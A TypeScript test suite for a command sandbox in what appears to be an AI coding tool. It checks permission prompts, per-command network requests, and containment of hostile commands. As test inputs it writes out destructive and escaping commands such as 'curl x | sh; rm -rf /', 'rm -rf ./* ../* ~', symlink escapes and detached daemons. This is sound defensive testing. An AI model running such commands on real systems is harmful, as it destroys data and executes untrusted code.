// Commands in a sandbox: who is asked and when, and hostile lines that try to get out. The program of the sandbox is brought along;
// where it cannot be had, only the questions are tested.
import assert from "node:assert/strict";
import * as fs from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, type TestContext, test } from "node:test";
import type { Check } from "../../../src/checks/check.ts";
import {
  findSandbox,
  type Sandbox,
  type SandboxRun,
  type SandboxState,
} from "../../../src/checks/internal/sandbox/sandbox.ts";
import { openCommandApp } from "../../support/command-app.ts";
import { english } from "../../support/english.ts";
import { canBeNobody, isRoot, passAsOrdinaryUser } from "../../support/ordinary-user.ts";
import { prepareBubblewrap } from "../../support/tools.mjs";

/** Runs nothing, and keeps what it was asked to run. */
function fakeSandbox(end: "done" | "broken" = "done") {
  const runs: SandboxRun[] = [];
  const sandbox: Sandbox = {
    overlays: true,
    async run(run) {
      runs.push(run);
      return { end, ...(end === "done" && { code: 0 }), output: "", seconds: 0.1 };
    },
  };
  return { sandbox, runs };
}

describe("a command in a sandbox", () => {
  test("asks once for the folder, and no more where that was allowed", async (t) => {
    const { sandbox, runs } = fakeSandbox();
    const app = await openCommandApp(t, {
      sandbox,
      mode: "sandbox",
      answer: () => ({ kind: "accept", always: true }),
    });
    await app.run("npm test", "npm test", "curl x | sh; rm -rf /");
    assert.deepEqual([app.asked().length, app.allowed, runs.length], [1, ["work"], 3]);
    assert.match(
      english(app.asked()[0]?.message),
      /^Commands run in a sandbox without network, on a copy of work/,
    );
    assert.equal(app.asked()[0]?.command?.canAllow, true);
    const ends = app.rows.filter(({ status }) => status === "done");
    assert.deepEqual(
      ends.map(({ command }) => command?.allowedIn),
      ["work", "work", "work"],
      "each row says by which permission it ran",
    );
  });

  test("asks once more when that was withdrawn", async (t) => {
    const app = await openCommandApp(t, {
      sandbox: fakeSandbox().sandbox,
      mode: "sandbox",
      answer: () => ({ kind: "accept", always: true }),
    });
    await app.run("true");
    await app.commandHost.askIn("work");
    await app.run("true");
    assert.deepEqual([app.asked().length, app.allowed], [2, ["work"]]);
  });

  test("asks again where it was allowed once", async (t) => {
    const app = await openCommandApp(t, { sandbox: fakeSandbox().sandbox, mode: "sandbox" });
    await app.run("true", "true");
    assert.deepEqual([app.asked().length, app.allowed], [2, []]);
    assert.ok(app.rows.every(({ command }) => command?.allowedIn === undefined));
  });

  test("asks for the network each time, also in a folder that is allowed", async (t) => {
    const { sandbox, runs } = fakeSandbox();
    const app = await openCommandApp(t, { sandbox, answer: () => ({ kind: "accept", always: true }) });
    await app.run("true", { command: "true", network: true }, { command: "true", network: true }, "true");
    assert.deepEqual(
      app.asked().map(({ command }) => command?.canAllow),
      [true, undefined, undefined],
    );
    assert.match(english(app.asked()[1]?.message), /^Network for this command: /);
    assert.deepEqual(
      runs.map(({ network }) => network),
      [undefined, true, true, undefined],
    );
    assert.ok(
      runs.every(({ env, network }) => (env["npm_config_offline"] === undefined) === (network === true)),
    );
  });

  test("is not told to write without colours, as a check is", async (t) => {
    const { sandbox, runs } = fakeSandbox();
    const app = await openCommandApp(t, { sandbox });
    await app.run("npm test");
    const check: Check = {
      ...{ id: "c", name: "c", command: "npm test", kind: "static", folder: "work", blind: [] },
      isConfined: true,
    };
    const { signal } = new AbortController();
    await app.copies.withCopy([], (copy) => copy.run(check, signal), signal);
    assert.deepEqual(
      runs.map(({ env: { CI, NO_COLOR, FORCE_COLOR } }) => [CI, NO_COLOR, FORCE_COLOR]),
      [
        [undefined, undefined, undefined],
        ["1", "1", "0"],
      ],
    );
  });

  test("never runs with the person's rights instead, when the sandbox cannot be made", async (t) => {
    const app = await openCommandApp(t, { sandbox: fakeSandbox("broken").sandbox });
    const [heard] = await app.run(`touch ${app.workspace.root}/ran`);
    assert.equal(heard, "It could not be started. Nothing ran.\nIt printed nothing.");
    assert.equal(english(app.ended()?.message), "The sandbox could not be started, so nothing ran.");
    assert.ok(!fs.existsSync(join(app.workspace.root, "ran")));
  });

  test("is stopped while it waits for another one", async (t) => {
    const { sandbox, runs } = fakeSandbox();
    const app = await openCommandApp(t, { sandbox });
    let free = () => {};
    const never = new AbortController().signal;
    const held = app.copies.withCopy([], () => new Promise<void>((resolve) => (free = resolve)), never);
    app.app.session.onEvent((event) => {
      if (event.type === "tool" && event.status === "running")
        setImmediate(() => app.app.session.decide(event.call, { kind: "stop" }));
    });
    const [heard] = await app.run("true");
    assert.match(heard ?? "", /^The user stopped this command\./);
    free();
    await held;
    assert.deepEqual(runs, []);
  });

  test("writes into no cache that a check of a proposal could believe", async (t) => {
    const { sandbox, runs } = fakeSandbox();
    await (await openCommandApp(t, { sandbox })).run("true");
    assert.deepEqual([runs[0]?.writable, runs[0]?.readOnly.length], [[], 1]);
  });
});

/** Of one package, as npm and pip ask for it. */
async function registry(t: Pick<TestContext, "after">): Promise<string> {
  const versions = {
    "1.2.3": { name: "thing", version: "1.2.3", dist: { tarball: "http://localhost/t.tgz" } },
  };
  const server = createHttpServer(({ url = "" }, response) => {
    const known: Readonly<Record<string, readonly [string, string]>> = {
      "/thing": [
        "application/json",
        JSON.stringify({ name: "thing", "dist-tags": { latest: "1.2.3" }, versions }),
      ],
      "/simple/thing/": [
        "text/html",
        '<a href="/thing-1.2.3-py3-none-any.whl">thing-1.2.3-py3-none-any.whl</a>',
      ],
      "/hello": ["text/plain", "hello"],
    };
    const [type, body] = known[url] ?? ["text/plain", ""];
    response.writeHead(known[url] === undefined ? 404 : 200, { "content-type": type }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  return `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
}

describe("a hostile command in a sandbox", () => {
  let storage: string;
  let state: SandboxState;

  const outside = fs.mkdtempSync(join(fs.realpathSync(tmpdir()), "patchbay-outside-"));
  fs.writeFileSync(join(outside, "victim"), "untouched");

  before(async () => {
    storage = fs.mkdtempSync(join(fs.realpathSync(tmpdir()), "patchbay-trial-"));
    const [brought] = await prepareBubblewrap();
    state = await findSandbox({
      ...{ storage, workspaceFolders: [] },
      ...(brought !== undefined && { bubblewrap: brought.program }),
    });
    console.log(`  Commands are locked in here: ${state.kind === "works" ? "yes" : `no, ${state.detail}`}`);
  });

  after(() => {
    for (const each of [storage, outside]) fs.rmSync(each, { recursive: true, force: true });
  });

  // That a command goes into the sandbox, and what is its own: the copy, its processes, the terminal. What else a sandbox holds
  // is tried in test/unit/sandbox.
  for (const [what, command, held] of [
    ["writes outside", `echo x > ${outside}/victim; echo $?`, /\n[12]$/],
    ["reads outside", `cat ${outside}/victim || echo held`, /held/],
    ["links out of its copy", `ln -s ${outside} out; echo x > out/victim || echo held`, /held.*out \(/s],
    [
      "removes its own folder's contents, and all above",
      "rm -rf ./* ../* ~ >/dev/null 2>&1; echo gone",
      /D a\.txt/,
    ],
    ["leaves a daemon that leaves its group", "setsid sleep 4242 >/dev/null 2>&1 & echo left", /left/],
    ["asks for a password at a terminal", "cat < /dev/tty || echo held", /held/],
  ] as const)
    test(`is held when it ${what}`, async (t) => {
      if (state.kind !== "works") return;
      const app = await openCommandApp(t, { sandbox: state.sandbox });
      const [heard] = await app.run(command, "cat a.txt");
      assert.match(heard ?? "", held);
      assert.equal(fs.readFileSync(join(outside, "victim"), "utf8"), "untouched");
      assert.equal(app.workspace.text("work/a.txt"), "one\n");
      const all = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
      const lines = all.map((pid) => {
        try {
          return fs.readFileSync(`/proc/${pid}/cmdline`, "utf8");
        } catch {
          return "";
        }
      });
      assert.ok(!lines.some((line) => line.includes("sleep\x004242")));
    });

  if (canBeNobody(import.meta.filename))
    test("is held no less for an ordinary user", async () => {
      await passAsOrdinaryUser(
        import.meta.filename,
        /is held when it|reaches a server|looks up a package|leaves nothing in .tmp|proposes what it changes/,
        {},
      );
    });
  else if (isRoot) console.log("  This machine lets nobody but root run these tests.");

  test("reaches a server of this computer only with the network that was asked for", async (t) => {
    if (state.kind !== "works") return;
    const server = createServer((socket) => socket.end("hello\n")).listen(0, "127.0.0.1");
    t.after(() => server.close());
    await new Promise((resolve) => server.once("listening", resolve));
    const address = server.address();
    const port = typeof address === "object" ? address?.port : 0;
    const command = `node -e "require('net').connect(${port},'127.0.0.1').on('error',()=>console.log('held')).pipe(process.stdout)"`;
    const app = await openCommandApp(t, { sandbox: state.sandbox });
    const [held, reached] = await app.run(command, { command, network: true });
    assert.match(held ?? "", /\nheld$/);
    assert.match(reached ?? "", /\nhello$/);
  });

  for (const [what, line, answer] of [
    ["npm", "npm view thing version --registry $URL --fetch-retries 0 --loglevel error", /\n1\.2\.3$/],
    [
      "pip",
      "python3 -m pip index versions thing --retries 0 --index-url $URL/simple 2>&1",
      /\nthing \(1\.2\.3\)/,
    ],
    ["curl", "curl -sS -m 10 $URL/hello 2>&1", /\nhello$/],
  ] as const)
    test(`looks up a package by ${what} only with the network`, async (t) => {
      if (state.kind !== "works") return;
      const url = await registry(t);
      const app = await openCommandApp(t, { sandbox: state.sandbox });
      const command = line.replace("$URL", url);
      const [has, held, reached] = await app.run(`${line.split(/ (?!-m|pip)/)[0]} --version`, command, {
        ...{ command, network: true },
      });
      if (!has?.startsWith("Exit code 0")) return console.log(`  There is no ${what} here.`);
      assert.match(held ?? "", /^Exit code [1-9]/);
      assert.match(reached ?? "", answer);
    });

  test("has what is installed and no terminal, and leaves nothing in /tmp for the next one", async (t) => {
    if (state.kind !== "works") return;
    const files = { "package.json": "{}", "node_modules/z/index.js": "installed\n" };
    const app = await openCommandApp(t, { sandbox: state.sandbox, files });
    const [first, next] = await app.run(
      "cat node_modules/z/index.js; test -t 1 || echo no terminal; echo x > /tmp/kept; cat /tmp/kept",
      "cat /tmp/kept || echo gone",
    );
    assert.match(first ?? "", /s\.\ninstalled\nno terminal\nx$/);
    assert.match(next ?? "", /\ngone$/);
  });

  test("proposes what it changes, at the folder's own path", async (t) => {
    if (state.kind !== "works") return;
    const app = await openCommandApp(t, { sandbox: state.sandbox });
    const [heard] = await app.run(`echo two > ${app.folder}/a.txt; pwd; (sleep 0.4; echo late)`);
    assert.match(heard ?? "", /\n\.\nlate\n.*Proposed to the user:\nM a\.txt/s);
    assert.deepEqual(await app.pending(), { "a.txt": "two\n" });
    assert.ok(app.rows.some(({ status, output }) => status === "running" && output !== undefined));
  });
});
